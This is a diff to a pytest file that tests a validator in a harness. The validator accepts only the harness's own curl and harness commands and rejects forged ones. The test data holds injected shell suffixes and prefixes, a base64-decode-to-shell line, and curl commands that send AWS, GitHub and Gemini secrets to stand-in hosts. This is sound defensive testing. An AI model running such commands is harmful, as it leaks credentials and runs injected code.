@@ -17,7 +17,7 @@ from msgspec import structs
 
 from harness.benches.server.script_run import is_runnable
 from harness.interactions import INTERACTIONS
-from harness.report.evidence.curl import Display, curl, curl_lines, is_own_command, is_own_script
+from harness.report.evidence.curl import Display, OwnScripts, curl, curl_lines, is_own_command
 from harness.wire import Arrivals, Exchange, Headers, Request
 from harness.wire.mask import Mask
 from tests.contract.exchanges import ROOT, exchange
@@ -257,9 +257,10 @@ TRAILS = {
 @pytest.mark.parametrize("name", TRAILS)
 def test_a_command_is_known_again(name: str) -> None:
     """Each that is written is one for its target, and for no other; one word more, and it is none."""
+    scripts, others = (OwnScripts(INTERACTIONS, root) for root in (SHOWN.root, "http://evil.example"))
     for command in curl_lines(TRAILS[name], SHOWN):
-        assert is_own_script(command, SHOWN.root), command
-        assert not is_own_script(command, "http://evil.example") or command.startswith("wait")
+        assert scripts.know(command), command
+        assert not others.know(command) or command.startswith("wait")
         for more in (
             "; id",
             " | sh",
@@ -273,9 +274,9 @@ def test_a_command_is_known_again(name: str) -> None:
             "\\\n id",
             "\x03",
         ):
-            assert not is_own_script(f"{command}{more}", SHOWN.root)
+            assert not scripts.know(f"{command}{more}")
         for before in ("id; ", "id\n", "id | ", "A=b ", "# x\n", "$(id)", "sleep 1; id; "):
-            assert not is_own_script(f"{before}{command}", SHOWN.root)
+            assert not scripts.know(f"{before}{command}")
 
 
 FORGED = (
@@ -287,19 +288,37 @@ FORGED = (
     "OUT0=$(id); printf '%s\\n' \"$OUT0\"", "OUT0=$(curl -sS -N -i -X GET http://evil/); printf '%s\\n' \"$OUT0\"",
     "sleep 1; id", "echo aWQ= | base64 -d | sh", "curl -sS -N -i -X GET http://h/x \\\n  --data-raw @x \\\n  -o x",
     "curl -sS -N -i -X GET http://h/x \\\n  -H \"$(printf '%s' \"$(id)\")\"",
+    "curl -sS -N -i -X GET http://h/\"${AWS_SECRET_ACCESS_KEY}\"", "curl -sS -N -i -X GET http://h/\"${ID0}\"",
+    "curl -sS -N -i -X GET http://h/x \\\n  -H 'x: '\"$GITHUB_TOKEN\"", "curl -sS -N -i -X GET http://h/\"$OUT0\"",
+    "curl -sS -N -i -X GET http://h/\"$GEMINI_API_KEY\"", "curl -sS -N -i -X \"$COOKIE\" http://h/x",
+    (
+        "OUT0=$(curl -sS -N -i -X GET http://h/x); printf '%s\\n' \"$OUT0\"\nPATH=$(printf '%s' \"$OUT0\" | "
+        "grep -o '\"id\": *\"[^\"]*\"' | sed -n 1p | cut -d'\"' -f4)\n"
+        ': "${PATH:?the response above has no id}"'
+    ),
 )  # fmt: skip
 
 
 @pytest.mark.parametrize("command", FORGED)
 def test_a_forged_command_is_none_of_ours(command: str) -> None:
     """Another program, another host, an option that reads or writes a file, or a word that a shell expands."""
-    assert not is_own_script(command, "http://h")
+    assert not OwnScripts(INTERACTIONS, "http://h").know(command)
 
 
-def test_a_command_of_harness_is_one_of_words() -> None:
-    """What repeats one case; no word of it does anything in a shell."""
-    words = ["harness", "torture", "--case", "a b", "--", "node", "it's;.mjs", "$(id)"]
-    assert is_own_command(shlex.join(words))
+def test_a_command_of_harness_repeats_a_case_of_its_client() -> None:
+    """No other client, no other command and no option that runs a program; no word does anything in a shell."""
+    client = ["node", "it's;.mjs", "$(id)", "--extension"]
+    words = ["harness", "torture", "--cuts", "event:1,end", "--text", "a b", "--strict", "--timeout", "3"]
+    assert is_own_command(shlex.join([*words, "--", *client]), shlex.join(client))
+    assert is_own_command(shlex.join([*words, "--client", "openai"]), "openai")
+    for others in (
+        [*words, "--", "sh"], [*words, "--client", "other"], [*words, "--", *client, "x"],
+        ["harness", "serve", "--", *client], ["harness", "fuzz", "http://evil.example"],
+        [*words, "--extension", "evil.py"], [*words, "--text", "--extension", "evil.py"],
+        [*words, "--extension=evil.py"], [*words, "--text=x"], [*words, "evil"], [*words, "--cuts"],
+        [*words, "--report", "json=x"], ["harness"], ["harness", "torture", "--client=openai"],
+    ):  # fmt: skip
+        assert not is_own_command(shlex.join(others), shlex.join(client))
     for text in (
         "touch x",
         "harness check; id",
@@ -308,4 +327,4 @@ def test_a_command_of_harness_is_one_of_words() -> None:
         "harness\nid",
         "harness 'a\x03'",
     ):
-        assert not is_own_command(text)
+        assert not is_own_command(text, "x")
